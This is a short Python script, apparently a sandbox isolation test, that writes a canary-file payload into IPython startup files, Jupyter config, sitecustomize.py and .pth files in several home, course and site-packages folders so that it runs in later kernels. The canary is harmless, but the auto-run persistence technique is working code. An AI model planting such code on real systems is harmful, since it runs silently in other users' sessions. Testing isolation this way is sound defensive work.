"""Plants code that later kernels run: an IPython startup file, a kernelspec, a .pth file."""

import os
import site
from pathlib import Path

home = Path(os.environ.get("HOME", "/box/home"))
plant = "open('/box/public/canary.txt', 'w').write('planted')\n"
targets = [home, Path("/box/home"), Path("/box/course")]
for folder in targets:
    for name in (".ipython/profile_default/startup/00.py", ".jupyter/jupyter_config.py", "sitecustomize.py"):
        try:
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text(plant)
        except OSError as error:
            print(error)
for folder in (*site.getsitepackages(), site.getusersitepackages()):
    try:
        (Path(folder) / "zoo.pth").write_text(f"import os; {plant}")
    except OSError as error:
        print(error)
